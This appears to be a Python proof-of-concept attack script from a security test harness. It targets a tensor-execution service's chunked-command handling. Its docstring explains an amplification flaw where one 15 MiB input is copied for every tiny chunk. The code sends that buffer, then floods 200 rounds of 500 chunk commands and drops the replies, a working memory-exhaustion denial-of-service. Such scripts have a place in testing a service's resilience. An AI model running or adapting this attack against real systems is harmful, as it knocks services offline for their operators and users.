"""An ExecuteChunkedCommand with one input whole, of 15 MiB in the pieces that the network made of it, and the other in
chunks of one element: every chunk is a piece to compute, and each gathers the whole of the large one first.

Cost: 15 MiB once, then 40 bytes a chunk. Found: 15 MiB are copied for each, 16,000 of them may wait.
"""

import wire
from attack import Attack, Target, run
from sessions import Session

ELEMENTS = (15 << 20) // 4


def send(target: Target) -> None:
    session = Session(target.connect()).begin()
    the_call = wire.call(
        "L1Loss",
        [
            wire.tensor("self", wire.FLOAT32, [ELEMENTS], raw=0),
            wire.tensor("target", wire.FLOAT32, [ELEMENTS], chunked=True),
        ],
        reduction=0,
    )
    whole = session.send(wire.EXECUTE_CHUNKED, wire.field(1, the_call), [bytes(ELEMENTS * 4)])
    bodies = [wire.ids(whole, "target", i) for i in range(500)]
    for _ in range(200):
        session.send_group([session.command(wire.INPUT_CHUNK, body) for body in bodies], [wire.floats(1.0)] * 500)
        session.drop_answers()


if __name__ == "__main__":
    run(Attack([send, send]))
